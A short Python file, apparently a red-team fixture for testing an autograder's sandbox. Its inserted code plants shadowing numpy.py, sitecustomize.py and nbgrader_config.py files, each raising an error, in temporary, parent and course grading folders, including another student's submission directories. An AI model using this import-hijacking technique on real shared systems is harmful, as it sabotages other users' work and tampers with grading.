"""Leaves numpy.py and saelab.py in /tmp, /dev/shm and the folders above its own."""

CODE = """
import os
text = "# mallory-was-here\\nraise ImportError('mallory')\\n"
for folder in ("/tmp", "/dev/shm", "/var/tmp", "..", "../..", "../../..", "/srv/course",
               "/srv/course/autograded", "/srv/course/autograded/zoe/02_cost",
               "/srv/course/submitted/zoe/02_cost"):
    for name in ("numpy.py", "saelab.py", "sitecustomize.py", "nbgrader_config.py"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "a") as file:
                file.write(text)
        except OSError as error:
            print(error)
"""


def submit(work):
    work.insert(CODE)
